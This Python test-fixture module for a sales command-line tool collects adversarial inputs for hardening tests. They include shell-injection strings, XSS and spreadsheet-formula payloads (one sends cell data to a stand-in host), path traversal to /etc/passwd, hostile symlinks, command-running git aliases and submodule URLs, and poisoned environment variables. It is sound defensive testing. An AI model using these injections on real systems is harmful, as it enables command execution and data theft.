"""Attacks on a book, each a few words: deals, settings, processes, repositories, surroundings.

A deal is the text of its file. The others are what is done to the folder of a book; what they put
beside it is named `outside`. CANARY is what a shell would make of a text that ran.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

CANARY = "/tmp/salescli-was-had"  # noqa: S108 - a shell would have to make it
# What could steer a terminal, run in a shell, a spreadsheet or a page, or break out of a line.
SLY = {
    "escape": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "c1": "\x9b2J\x9d0;t\x9c",
    "returns": "good\rforged\x0b\x0cline",
    "backspace": "evil\x08\x08\x08\x08good",
    "nul": "\x01\x02\x03\x7f\x1a",
    "bidi": "\u202egnp.exe\u2066x\u2069\u200f",
    "hidden": "a\u200bb\ufeffc\u2060\U000e0061\xad",
    "zalgo": "e" + "\u0301" * 300,
    "breaks": "one\u2028two\u2029three\x85four\nfive",
    "shell": f"$(touch {CANARY});`touch {CANARY}`|touch {CANARY}",
    "markup": "[bold red]x[/][link=file:///]y[/link]:smile:",
    "html": "</style></script><script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
    "formula": '=HYPERLINK("http://x.example?"&A1,"x")',
    "formulas": "a;=1+1;\t@SUM(A1)\r\n-2+3\uff1d1",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:x",
    "format": "%s%n{0}{x!r}%(x)s${HOME}",
    "markdown": "](javascript:alert(1))\n# x\n|a|b|\n```",
    "long": "x" * 3_000,
    "wide": "\u65e5" * 1_000,
    "flag": "--help",
    "path": "../../../../etc/passwd",
}
_TEXT_KEYS = ("title", "company", "owner", "source", "currency", "industry", "country", "follows")


def quoted(text: str) -> str:
    """Any text as TOML has it in quotes."""
    plain = (c if c.isalnum() or c in " =<>;:/" else f"\\U{ord(c):08x}" for c in text)
    return f'"{"".join(plain)}"'


def everywhere(text: str) -> str:
    """A deal that has a text wherever one may stand."""
    sly = quoted(text)
    header = "".join(f"{key} = {sly}\n" for key in _TEXT_KEYS)
    return f"""{header}process = "small-business"
revision = 1
tags = [{sly}]
competitors = [{sly}]
{sly} = {sly}

[custom]
{sly} = {sly}
more = {{ {sly} = [{sly}] }}

[people.bob]
name = {sly}
role = {sly}
email = {sly}
phone = {sly}

[people.{sly}]
name = {sly}

[[log]]
at = 2026-11-20T09:00:00+01:00
by = {sly}
kind = "call"
steps = ["discovery", {sly}]
met = [{sly}]
with = ["bob", {sly}]
flags = [{sly}]
note = {sly}

[log.next]
step = "demo"
what = {sly}
on = 2026-11-24T10:00:00+01:00
with = ["bob", {sly}]
goal = {sly}

[[log]]
at = 2026-11-20T10:00:00+01:00
by = "ada"
kind = "skip"
steps = ["first-reply"]
reason = {sly}

[[log]]
at = 2026-11-20T11:00:00+01:00
by = "ada"
kind = "change"
[log.change]
{sly} = [{sly}, {sly}]
"""


def closed(text: str) -> str:
    """A deal that was lost for a reason of that text."""
    sly = quoted(text)
    return f"""company = {sly}
process = {sly}
[[log]]
at = 2026-11-20T09:00:00+01:00
kind = "close"
result = "lost"
reason = {sly}
evidence = {sly}
said_by = {sly}
"""


_LOG = 'company = "A"\nprocess = "small-business"\n[[log]]\nat = {}\nkind = "call"\n'
_NEXT = _LOG.format("2026-11-20T09:00:00Z") + '[log.next]\nstep = "demo"\non = {}\n'
# Deals that are no good: none of them hides another one, or ends a command.
DEALS = {
    **{f"sly-{name}": everywhere(text) for name, text in SLY.items()},
    **{f"lost-{name}": closed(text) for name, text in SLY.items()},
    "empty": "",
    "nothing": "\n\n# nothing\n",
    "marks": "<<<<<<< a\ncompany = 'A'\n=======\n>>>>>>> b\n",
    "deep": f"x = {'[' * 5000}",
    "deeper": f"x = {'[' * 3000}{']' * 3000}",
    "dotted": f"{'.'.join('a' * 3000)} = 1",
    "tables": "".join(f"[t{n}]\n" for n in range(3000)),
    "keys": "".join(f"k{n} = 1\n" for n in range(3000)),
    "brackets": "[" * 20_000,
    "quotes": '"' * 20_000,
    "backslashes": 'title = "' + "\\" * 20_001,
    "open": 'title = """never closed',
    "log-text": 'log = "x"',
    "log-table": "[log]\nx = 1",
    "log-mixed": "log = [1, {}, []]",
    "log-empty": "log = [{}]",
    "people-list": "people = []",
    "people-number": "people = { bob = 1 }",
    "next-number": 'log = [{ kind = "call", next = 1 }]',
    "year-one": _LOG.format("0001-01-01T00:00:00Z"),
    "year-one-here": _LOG.format("0001-01-01T00:00:00+23:59"),
    "year-last": _LOG.format("9999-12-31T23:59:59.999999-23:59"),
    "no-zone": _LOG.format("9999-12-31T23:59:59"),
    "time-alone": _LOG.format("09:00:00"),
    "next-first": _NEXT.format("0001-01-01"),
    "next-last": _NEXT.format("9999-12-31"),
    "next-last-hour": _NEXT.format("9999-12-31T23:59:59-12:00"),
    "close-first": f"close = 0001-01-01\n{_NEXT.format('2026-11-25')}",
    "close-last": f"close = 9999-12-31\n{_NEXT.format('2026-11-25')}",
    "revisit": 'log = [{ at = 2026-01-01T00:00:00Z, kind = "close", result = "lost", '
    "revisit = 9999-12-31 }]",
    "value-nan": f"value = nan\n{_NEXT.format('2026-11-25')}",
    "value-minus": f"value = -inf\n{_NEXT.format('2026-11-25')}",
    "value-small": f"value = 1e-99999999\n{_NEXT.format('2026-11-25')}",
    "value-long": f"value = 0.{'1' * 5000}\n{_NEXT.format('2026-11-25')}",
    "value-power": f"[custom]\nx = 1e99999999\ny = 0x{'f' * 4000}\n",
    "revision": f'process = "small-business"\nrevision = {9**9}\n',
    "process-path": 'process = "../../../etc/passwd"\nrevision = 1',
    "process-nul": 'process = "a\\u0000b"',
    "process-empty": 'process = ""',
    "entries": _LOG.format("2026-11-20T09:00:00Z")
    + "".join(f"[[log]]\nat = 2026-11-20T09:00:00Z\nnote = 'n{n}'\n" for n in range(400)),
    "reopened": "".join(
        f'[[log]]\nat = 2026-11-20T09:00:{n:02}Z\nkind = "{"reopen" if n % 2 else "close"}"\n'
        for n in range(40)
    ),
}
# What no text can be.
BYTES = {
    "not-utf8": b'company = "\xff\xfe"',
    "utf16": 'company = "A"'.encode("utf-16"),
    "surrogate": b'company = "\xed\xa0\x80"',
    "overlong": b'company = "\xc0\xae\xc0\xae/"',
    "zeros": bytes(5000),
    "marks-twice": b"\xef\xbb\xbf\xef\xbb\xbfcompany = 'A'",
    "gzip": b"\x1f\x8b\x08\x00" * 50,
    "cut": everywhere("x").encode()[:300],
}

_OWN_SETTINGS = 'me = "ada"\n'
SETTINGS = {
    "none": "",
    "broken": "me = ",
    "list": "me = ['a']\ncurrency = 1\nprocess = {}\ncalendar = 5\ngit = []\ncheck = 'x'",
    "no-workday": "[calendar]\nworkdays = []",
    "holidays": "[calendar]\nholidays = [" + "2026-11-23," * 3000 + "]",
    "all-holidays": "[calendar]\nworkdays = ['mon']\nholidays = [2026-11-23, 2026-11-30]",
    "hours": "[calendar]\nhours = '25:00-99:99'",
    "country-path": "[calendar]\ncountry = '../../etc'",
    "region-path": "[calendar]\ncountry = 'DE'\nregion = '../../../x'",
    "country": "[calendar]\ncountry = 'ZZ'",
    "process-path": "process = '../../../etc/passwd'",
    "ignore": "[check]\nignore = ['N01', 'X99', 1]",
    "schema": "[files]\nschema = 'a\\nb'",
    "bytes": "me = '\\ud800'",
    **{
        f"sly-{name}": f"me = {quoted(text)}\ncurrency = {quoted(text)}"
        for name, text in SLY.items()
    },
}

_PROCESS = 'name = "small-business"\ntitle = "S"\nrevision = 1\n'
PROCESSES = {
    "empty": "",
    "broken": "[[step",
    "other-name": 'name = "../../x"\nrevision = 1\n',
    "types": "stage = 1\nstep = 'x'\nrole = {}\nask = []\nfits = 3\nloss = [1]\n",
    "no-steps": _PROCESS,
    "circle": _PROCESS
    + '[[step]]\nid = "a"\nafter = ["b"]\nleads_to = ["b"]\n[[step]]\nid = "b"\nafter = ["a"]\n',
    "itself": f'{_PROCESS}then = "small-business"\n[[step]]\nid = "a"\nafter = ["a"]\n',
    "times": f'{_PROCESS}[[step]]\nid = "a"\ntimes = 999999999\nat_most = 1\nwithin = "9999999w"\n',
    "cycle": f'{_PROCESS}cycle = "999999999999bd"\nstale = "0bd"\n',
    "many": _PROCESS + "".join(f'[[step]]\nid = "s{n}"\n' for n in range(300)),
    "twice": _PROCESS + '[[step]]\nid = "demo"\n[[step]]\nid = "demo"\n',
    **{
        f"sly-{name}": f"{_PROCESS}summary = {quoted(text)}\n[[stage]]\nid = {quoted(text)}\n"
        f"title = {quoted(text)}\n[[step]]\nid = 'demo'\ntitle = {quoted(text)}\n"
        f"stage = {quoted(text)}\nhow = {quoted(text)}\nbuyer = {quoted(text)}\n"
        for name, text in SLY.items()
    },
}

Attack = Callable[[Path], object]


def _write(name: str, data: bytes | str) -> Attack:
    def attack(book: Path) -> None:
        path = book / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)

    return attack


def _link(name: str, to: str) -> Attack:
    def attack(book: Path) -> None:
        path = book / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir() and not path.is_symlink():
            path.rename(book / "aside")
        path.unlink(missing_ok=True)
        path.symlink_to(to)

    return attack


def _fifo(name: str) -> Attack:
    def attack(book: Path) -> None:
        path = book / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return attack


def _folder(name: str) -> Attack:
    def attack(book: Path) -> None:
        path = book / name
        path.unlink(missing_ok=True)
        path.mkdir(parents=True)

    return attack


def _many_links(book: Path) -> None:
    for number in range(60):
        (book / f"deals/link{number}.toml").symlink_to(f"link{number + 1}.toml")


def _not_ours(book: Path) -> None:
    (book / "deals/acme.toml").chmod(0)


# What is done to the folder of a book, beside what its files hold.
SHAPES: dict[str, Attack] = {
    "deal-is-fifo": _fifo("deals/odd.toml"),
    "deal-is-device": _link("deals/odd.toml", "/dev/zero"),
    "deal-is-terminal": _link("deals/odd.toml", "/dev/tty"),
    "deal-is-memory": _link("deals/odd.toml", "/proc/self/mem"),
    "deal-is-secret": _link("deals/odd.toml", "../../outside/secret"),
    "deal-is-itself": _link("deals/odd.toml", "odd.toml"),
    "deal-is-folder": _folder("deals/odd.toml"),
    "deal-is-settings": _link("deals/odd.toml", "../salescli.toml"),
    "deals-are-elsewhere": _link("deals", "../outside"),
    "deals-are-root": _link("deals", "/"),
    "deals-are-processes": _link("deals", "/proc/self/fd"),
    "links": _many_links,
    "unreadable": _not_ours,
    "process-is-fifo": _fifo("processes/small-business.toml"),
    "process-is-device": _link("processes/small-business.toml", "/dev/zero"),
    "past-is-fifo": _fifo("processes/past/small-business.1.toml"),
    "past-is-root": _link("processes/past", "/"),
    "processes-are-a-file": _link("processes", "salescli.toml"),
    "own-is-a-file": _link(".salescli", "salescli.toml"),
    "own-is-elsewhere": _link(".salescli", "../outside"),
    "drafts-are-elsewhere": _link(".salescli/drafts", "../../outside"),
    "index-is-fifo": _fifo(".salescli/deals-03.cache"),
    "index-is-secret": _link(".salescli/deals-03.cache", "../../outside/secret"),
    "index-is-deep": _write(".salescli/deals-03.cache", "[" * 100_000),
    "index-is-number": _write(".salescli/deals-03.cache", "9" * 10_000),
    "draft-is-deep": _write(".salescli/drafts/log-x.json", '{"a":' * 50_000),
    "draft-is-sly": _write(
        ".salescli/drafts/log-x.json",
        '{"command":"log","name":"\\u001b[2J","at":"2026-11-20T09:00","answers":{"x":"\\u001b"}}',
    ),
    "draft-is-number": _write(".salescli/drafts/log-x.json", "9" * 10_000),
    "draft-is-far": _write(
        ".salescli/drafts/log-x.json",
        '{"command":"log","name":"a","at":"9999-12-31T23:59:59-23:59","answers":{}}',
    ),
    "holidays-are-deep": _write(".salescli/holidays/DE-2026.txt", "x\n" * 1000),
}

# What is done to git's own folder. None of it is more than a book without a history.
REPOSITORIES: dict[str, Attack] = {
    "file": lambda book: ((book / ".git").rename(book / "g"), (book / ".git").write_text("x")),
    "points-nowhere": lambda book: (
        (book / ".git").rename(book / "g"),
        (book / ".git").write_text("gitdir: /nowhere\n"),
    ),
    "points-to-root": lambda book: (
        (book / ".git").rename(book / "g"),
        (book / ".git").write_text("gitdir: /\n"),
    ),
    "empty": lambda book: ((book / ".git").rename(book / "g"), (book / ".git").mkdir()),
    "config": _write(".git/config", b"\x00\xff[core"),
    "config-loop": _write(".git/config", "[include]\n\tpath = config\n"),
    "config-version": _write(".git/config", "[core]\n\trepositoryformatversion = 99\n"),
    "worktree": _write(".git/config", "[core]\n\tworktree = /\n"),
    "worktree-outside": _write(".git/config", "[core]\n\tworktree = ../../outside\n"),
    "bare": _write(".git/config", "[core]\n\tbare = true\n"),
    "head": _write(".git/HEAD", "ref: ../../../etc/passwd\n"),
    "head-option": _write(".git/HEAD", "ref: refs/heads/--upload-pack=x\n"),
    "head-garbage": _write(".git/HEAD", b"\xff" * 100),
    "index": _write(".git/index", b"DIRC\x00\x00\x00\x02\xff\xff\xff\xff"),
    "alternates": _write(".git/objects/info/alternates", "/etc\n../../../outside\n"),
    "packed-refs": _write(".git/packed-refs", "x" * 5000),
    "shallow": _write(".git/shallow", "f" * 40 + "\n"),
    "grafts": _write(".git/info/grafts", "f" * 40 + "\n"),
    "merge": _write(".git/MERGE_HEAD", "f" * 40 + "\n"),
    "lock": _write(".git/index.lock", ""),
    "attributes": _write(".gitattributes", "* filter=x diff=x merge=x ident\n"),
    "modules": _write(".gitmodules", '[submodule "x"]\n\tpath = deals\n\turl = ext::sh -c x\n'),
    "alias": _write(
        ".git/config", f"[alias]\n\tlog = !touch {CANARY}\n\tstatus = !touch {CANARY}\n"
    ),
    "mailmap": _write(".mailmap", "\x1b[2J <a@b>\n"),
}

# Surroundings that a command may be started in.
ENVIRONMENTS: dict[str, dict[str, str]] = {
    "no-columns": {"COLUMNS": "0"},
    "one-column": {"COLUMNS": "1", "LINES": "1"},
    "minus-columns": {"COLUMNS": "-5", "LINES": "-5"},
    "text-columns": {"COLUMNS": "x", "LINES": "\u0663"},
    "many-columns": {"COLUMNS": "99999", "LINES": "99999"},
    "term": {"TERM": "\x1b[2J"},
    "term-path": {"TERM": "../../../etc/passwd", "TERMINFO": "/etc", "TERMCAP": "/dev/zero"},
    "user": {"USER": "\x1b[2J$(id)", "LOGNAME": "../../x"},
    "no-user": {"USER": "", "LOGNAME": ""},
    "home": {"HOME": "/nowhere"},
    "home-relative": {"HOME": "x", "XDG_DATA_HOME": "y", "XDG_STATE_HOME": "z"},
    "home-tilde": {"HOME": "~nobody\x1b[2J"},
    "zone": {"TZ": "\x1b[2J"},
    "zone-path": {"TZ": ":/etc/passwd"},
    "zone-far": {"TZ": "X+23:59:59"},
    "now-first": {"SALESCLI_NOW": "0001-01-01T00:00:00"},
    "now-last": {"SALESCLI_NOW": "9999-12-31T23:59:59"},
    "now-sly": {"SALESCLI_NOW": "\x1b[2J"},
    "now-far": {"SALESCLI_NOW": "99999999999-01-01"},
    "book-sly": {"SALESCLI_BOOK": "\x1b[2J\u202e"},
    "book-device": {"SALESCLI_BOOK": "/dev/null"},
    "book-long": {"SALESCLI_BOOK": "x" * 5000},
    "editor": {"EDITOR": f"touch {CANARY};", "PAGER": f"touch {CANARY}"},
    "git-dir": {"GIT_DIR": "/nowhere", "GIT_WORK_TREE": "/"},
    "git-config": {"GIT_CONFIG_COUNT": "x", "GIT_CONFIG_PARAMETERS": "'x"},
    "git-counted": {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "a.b", "GIT_CONFIG_VALUE_0": "c"},
    "git-diff": {"GIT_EXTERNAL_DIFF": f"touch {CANARY}", "GIT_PAGER": f"touch {CANARY}"},
    "no-path": {"PATH": ""},
}
